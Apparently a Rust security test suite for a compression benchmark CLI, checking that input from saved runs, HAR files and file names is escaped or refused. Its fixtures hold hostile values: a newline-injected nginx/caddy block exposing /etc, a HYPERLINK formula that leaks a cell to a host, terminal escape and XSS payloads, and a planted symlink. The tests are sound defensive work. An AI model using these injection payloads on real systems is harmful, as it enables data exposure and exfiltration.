//! What codecbench writes cannot be turned against its reader: text from a saved run,
//! a HAR capture or a file name is typed where it is read and escaped where it is
//! written (server configuration, CSV, terminal, Markdown).

use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::common::{bad_input, codecbench, ssconvert_present, succeed, through_spreadsheet};

/// A real `recommend` run of the test capture (gzip 1, quick), saved as JSON in `dir`.
fn capture_run(dir: &Path) -> (PathBuf, Value) {
    let path = dir.join("run.json");
    succeed(codecbench().args([
        "recommend",
        "--payload",
        "tests/fixtures/capture.har",
        "--quick",
        "--codecs",
        "gzip",
        "--gzip-levels",
        "1",
        "--quiet",
        "--export-json",
        path.to_str().unwrap(),
    ]));
    let run = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    (path, run)
}

/// A real quick run of `single` at `codec` 1, saved as JSON in `dir`, and its document.
fn single_run(dir: &Path, codec: &str) -> (PathBuf, Value) {
    let path = dir.join("base.json");
    let levels = format!("--{codec}-levels");
    let args = [
        "run",
        "--quick",
        "--quiet",
        "--payload",
        "single",
        "--codecs",
        codec,
    ];
    succeed(
        codecbench()
            .args(args)
            .args([&levels, "1", "--export-json"])
            .arg(&path),
    );
    let run = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    (path, run)
}

/// `document` saved as `name` in `dir`; its path.
fn save(dir: &Path, name: &str, document: &Value) -> String {
    let path = dir.join(name);
    std::fs::write(&path, serde_json::to_vec(document).unwrap()).unwrap();
    path.display().to_string()
}

/// `run` with the first JSON body's content type set to `content_type`, saved in `dir`.
fn with_content_type(dir: &Path, run: &Value, content_type: &str) -> String {
    let mut run = run.clone();
    let payloads = run["payloads"].as_array_mut().unwrap();
    let json = payloads
        .iter_mut()
        .find(|p| p["content_type"] == "application/json")
        .unwrap();
    json["content_type"] = Value::String(content_type.to_string());
    save(dir, "planted.json", &run)
}

#[test]
fn a_content_type_that_is_not_a_media_type_never_reaches_a_configuration() {
    let dir = tempfile::tempdir().unwrap();
    let (_, run) = capture_run(dir.path());
    // As reported: a newline, then a server block that lists /etc.
    let planted = "application/json;\n}\nserver { listen 127.0.0.1:8080; location / \
                   { root /etc; autoindex on; } }\nhttp {";
    let caddy = "application/json*\n}\n:8080 {\n\troot * /etc\n\tfile_server browse\n}\n{";
    for (content_type, emit) in [(planted, "nginx"), (caddy, "caddy")] {
        let path = with_content_type(dir.path(), &run, content_type);
        let message = bad_input(&["recommend", "--from", &path, "--emit", emit]);
        assert!(message.contains("content_type"), "{message}");
        assert!(
            message.contains("is not a type/subtype media type"),
            "{message}"
        );
        // The value is quoted with its newlines escaped: one line.
        assert!(message.contains(r"\n}\n"), "{message}");
    }
}

#[test]
fn a_media_type_with_parameters_is_kept_without_them() {
    let dir = tempfile::tempdir().unwrap();
    let (_, run) = capture_run(dir.path());
    let path = with_content_type(dir.path(), &run, "Application/JSON; charset=utf-8");
    let output = succeed(codecbench().args(["recommend", "--from", &path, "--emit", "nginx"]));
    let config = String::from_utf8(output.stdout).unwrap();
    let types = config
        .lines()
        .find(|l| l.starts_with("gzip_types"))
        .unwrap();
    assert!(types.contains(" application/json"), "{types}");
    assert!(!types.contains("charset"), "{types}");
}

/// Every cell of `csv` as gnumeric reads it.
fn spreadsheet_cells(csv: &Path) -> Vec<String> {
    let text = through_spreadsheet(csv);
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>())
        .collect()
}

#[test]
fn names_that_are_formulas_reach_a_spreadsheet_as_text() {
    let dir = tempfile::tempdir().unwrap();
    // A file named as a formula, named on the command line as it is.
    std::fs::write(dir.path().join("=SUM(2,5)"), br#"[{"id":1,"name":"a"}]"#).unwrap();
    // A capture whose first request's method is a formula that leaks a cell.
    let mut har: Value =
        serde_json::from_slice(&std::fs::read("tests/fixtures/capture.har").unwrap()).unwrap();
    let link = r#"=HYPERLINK("http://127.0.0.1:9/?leak="&B2,"click")"#;
    har["log"]["entries"][0]["request"]["method"] = Value::String(link.into());
    let capture = save(dir.path(), "capture.har", &har);
    let csv = dir.path().join("run.csv");
    succeed(codecbench().current_dir(dir.path()).args([
        "run",
        "--quick",
        "--quiet",
        "--codecs",
        "gzip",
        "--gzip-levels",
        "1",
        "--payload",
        "=SUM(2,5)",
        "--payload",
        &capture,
        "--export-csv",
        csv.to_str().unwrap(),
    ]));
    let written = std::fs::read_to_string(&csv).unwrap();
    assert!(written.contains("'=SUM(2,5)"), "{written}");
    assert!(written.contains("'=HYPERLINK("), "{written}");
    // codecbench's own reader gives the names back as they were.
    let merged = succeed(
        codecbench()
            .args(["merge", "--format", "markdown"])
            .arg(&csv),
    );
    let table = String::from_utf8(merged.stdout).unwrap();
    assert!(
        table.contains("=SUM(2,5)") && !table.contains("'=SUM"),
        "{table}"
    );
    if !ssconvert_present() {
        return;
    }
    let cells = spreadsheet_cells(&csv);
    assert!(
        !cells.iter().any(|c| c == "7"),
        "a formula was evaluated: {cells:?}"
    );
    assert!(cells.iter().any(|c| c.contains("=SUM(2,5)")), "{cells:?}");
    assert!(cells.iter().any(|c| c.contains("=HYPERLINK(")), "{cells:?}");
}

#[test]
fn a_run_that_holds_a_cell_twice_is_refused_by_compare_and_merge() {
    let dir = tempfile::tempdir().unwrap();
    let (base, mut run) = single_run(dir.path(), "gzip");
    // The cell again, ten times slower: compare judged only the first copy.
    let cells = run["payloads"][0]["cells"].as_array_mut().unwrap();
    let mut slower = cells[0].clone();
    for direction in ["compress", "decompress"] {
        let summary = slower[direction].as_object_mut().unwrap();
        for (_, value) in summary.iter_mut() {
            if let Some(seconds) = value.as_f64() {
                *value = Value::from(seconds * 10.0);
            } else if let Some(samples) = value.as_array_mut() {
                for sample in samples.iter_mut().filter(|s| s.is_f64()) {
                    *sample = Value::from(sample.as_f64().unwrap() * 10.0);
                }
            }
        }
    }
    cells.push(slower);
    let twice = save(dir.path(), "twice.json", &run);
    let (base, twice) = (base.to_str().unwrap(), twice.as_str());
    for args in [
        vec!["compare", base, twice],
        vec!["compare", twice, base],
        vec!["merge", base, twice],
    ] {
        let message = bad_input(&args);
        assert!(
            message.contains("holds payload \"single\", cell gzip 1"),
            "{message}"
        );
        assert!(message.contains("twice"), "{message}");
    }
    // codecbench does not write such a run itself.
    let message = bad_input(&["run", "--payload", "single", "--payload", "single"]);
    assert!(
        message.contains("--payload \"single\" is named twice"),
        "{message}"
    );
}

/// A terminal title, a screen clear, a C1 escape and a right-to-left override, and
/// Markdown that would be an image and a link: what a saved run's name can hold.
const LIVE_NAME: &str = "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31mabc\u{202e}fdp.exe \
                         <img src=x onerror=alert(1)> [click](http://127.0.0.1:9/)";

/// Whether `text` holds anything a terminal would act on.
fn live(text: &str) -> bool {
    text.chars().any(|c| {
        (c.is_control() && c != '\n' && c != '\t') || ('\u{202a}'..='\u{202e}').contains(&c)
    })
}

#[test]
fn text_from_a_saved_run_is_shown_on_a_terminal_and_in_markdown_not_obeyed() {
    let dir = tempfile::tempdir().unwrap();
    let (_, mut run) = single_run(dir.path(), "zstd");
    run["payloads"][0]["payload"] = Value::String(LIVE_NAME.into());
    let planted = save(dir.path(), "planted.json", &run);
    let table = succeed(codecbench().arg("merge").arg(&planted));
    let table = String::from_utf8(table.stdout).unwrap();
    assert!(!live(&table), "{table:?}");
    assert!(table.contains(r"\u{1b}]0;owned"), "{table}");
    let markdown = succeed(
        codecbench()
            .args(["merge", "--format", "markdown"])
            .arg(&planted),
    );
    let markdown = String::from_utf8(markdown.stdout).unwrap();
    assert!(!live(&markdown), "{markdown:?}");
    assert!(
        !markdown.contains("<img") && markdown.contains("&lt;img"),
        "{markdown}"
    );
    assert!(!markdown.contains("[click]("), "{markdown}");
    // An error that quotes a file's name shows it too.
    let named = dir.path().join(format!("{LIVE_NAME}.json"));
    let output = codecbench().arg("merge").arg(&named).output().unwrap();
    let stderr = String::from_utf8(output.stderr).unwrap();
    assert_eq!(output.status.code(), Some(2), "{stderr}");
    assert!(!live(&stderr), "{stderr:?}");
    assert_eq!(stderr.lines().count(), 1, "{stderr:?}");
}

/// `base` with its one cell repeated `copies` times, each at another level: a run
/// that takes a reader seconds.
fn many_cells(dir: &Path, base: &Value, copies: i64) -> String {
    let mut run = base.clone();
    let cell = run["payloads"][0]["cells"][0].clone();
    let cells: Vec<Value> = (0..copies)
        .map(|i| {
            let mut cell = cell.clone();
            cell["level"] = Value::from(-1 - i);
            cell
        })
        .collect();
    run["payloads"][0]["cells"] = Value::Array(cells);
    save(dir, "many.json", &run)
}

#[test]
fn commands_that_only_read_runs_end_at_the_first_stop_request() {
    let dir = tempfile::tempdir().unwrap();
    let (_, base) = single_run(dir.path(), "zstd");
    let many = many_cells(dir.path(), &base, 8_000);
    let svg = dir.path().join("plot.svg").display().to_string();
    let html = dir.path().join("report.html").display().to_string();
    let cases: [(&[&str], i32, i32); 3] = [
        (&["plot", &many, "-o", &svg], libc::SIGINT, 130),
        (&["report", &many, "--out", &html], libc::SIGTERM, 143),
        (&["recommend", "--from", &many], libc::SIGINT, 130),
    ];
    for (args, number, code) in cases {
        let signal = super::peer::Signal {
            number,
            after: std::time::Duration::from_millis(300),
            ready: &|| true,
        };
        let ended = super::peer::run(args, Some(signal), std::time::Duration::from_secs(60));
        assert_eq!(ended.code, Some(code), "{args:?}: {}", ended.stderr);
        let after = ended.after_signal.unwrap();
        assert!(
            after < std::time::Duration::from_secs(1),
            "{args:?}: {after:?}"
        );
    }
    // Nothing half-written is left where an output was asked for.
    assert!(!Path::new(&svg).exists() && !Path::new(&html).exists());
}

#[test]
fn an_output_through_a_link_another_user_planted_in_a_shared_directory_is_refused() {
    use std::os::unix::fs::PermissionsExt;
    let shared = tempfile::tempdir().unwrap();
    std::fs::set_permissions(shared.path(), std::fs::Permissions::from_mode(0o1777)).unwrap();
    let victim = shared.path().join("victim.txt");
    std::fs::write(&victim, "the victim's own file").unwrap();
    let link = shared.path().join("results.json");
    std::os::unix::fs::symlink(&victim, &link).unwrap();
    // Owned by nobody, as a link another user made would be; only root may do this.
    if std::os::unix::fs::lchown(&link, Some(65534), Some(65534)).is_err() {
        eprintln!("skipped: planting another user's link needs root");
        return;
    }
    let link = link.to_str().unwrap();
    for args in [
        vec![
            "run",
            "--quick",
            "--payload",
            "single",
            "--codecs",
            "zstd",
            "--export-json",
            link,
        ],
        vec!["plot", "tests/fixtures/base.json", "-o", link],
    ] {
        let message = bad_input(&args);
        assert!(
            message.contains("a link another user (uid 65534) left"),
            "{message}"
        );
    }
    let kept = std::fs::read_to_string(&victim).unwrap();
    assert_eq!(kept, "the victim's own file");
}
